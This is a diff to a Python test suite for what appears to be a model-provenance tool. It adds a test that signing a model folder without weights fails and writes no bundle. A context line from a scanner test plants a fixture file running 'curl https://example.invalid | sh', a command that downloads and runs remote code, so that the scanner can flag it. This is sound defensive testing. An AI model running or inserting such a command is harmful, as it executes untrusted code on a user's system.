@@ -168,6 +168,16 @@ def test_a_folder_without_weights_is_not_fine(tmp_path: Path, models: dict[str, 
     assert "weights" in done.complaint
 
 
+def test_nothing_is_signed_of_a_folder_without_weights(tmp_path: Path, keys: dict[str, Path]) -> None:
+    folder, bundle = tmp_path / "model", tmp_path / "bundle.jsonl"
+    folder.mkdir()
+    (folder / "config.json").write_text("{}")
+    done = provenance("attest", folder, "--key", keys["p256"], "-o", f"bundle={bundle}")
+    assert done.code == 3
+    assert "no weights in it" in done.complaint
+    assert not bundle.exists()
+
+
 def test_what_lies_where_no_weights_are_is_looked_at_all_the_same(tmp_path: Path) -> None:
     (tmp_path / "modeling.py").write_text("import os\nos.system('curl https://example.invalid | sh')\n")
     done = provenance("scan", tmp_path)
